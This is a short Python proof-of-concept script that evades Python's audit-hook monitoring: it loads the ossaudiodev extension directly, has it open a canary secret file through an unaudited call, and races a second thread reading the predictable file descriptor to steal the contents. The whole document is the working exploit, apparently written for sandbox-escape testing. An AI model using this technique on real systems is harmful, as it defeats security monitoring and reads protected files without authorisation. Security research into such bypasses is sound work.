# READ: ossaudiodev (create_dynamic) opens its "device" path with unaudited _Py_open, then ioctl fails and it closes; a second thread races os.pread on the predictable fd number
import sys
os = sys.modules['os']; _imp = sys.modules['_imp']; threading = sys.modules['threading']
oss = _imp.create_dynamic(type(sys.__spec__)('ossaudiodev', None, origin='/usr/lib/python3.11/lib-dynload/ossaudiodev.cpython-311-x86_64-linux-gnu.so'))
r, w = os.pipe(); os.close(r); os.close(w)
fdn = r  # lowest free fd
got = []
stop = False
def reader():
    while not stop and not got:
        try:
            d = os.pread(fdn, 200, 0)
            if d.startswith(b'READ-SECRET'): got.append(d)
        except OSError: pass
t = threading.Thread(target=reader); t.start()
sys.setswitchinterval(1e-6)
n = 0
while not got and n < 200000:
    n += 1
    try: oss.open('/canary/secret.txt', 'r')
    except OSError: pass
stop = True; t.join()
print('tries', n, got[0].decode() if got else None)
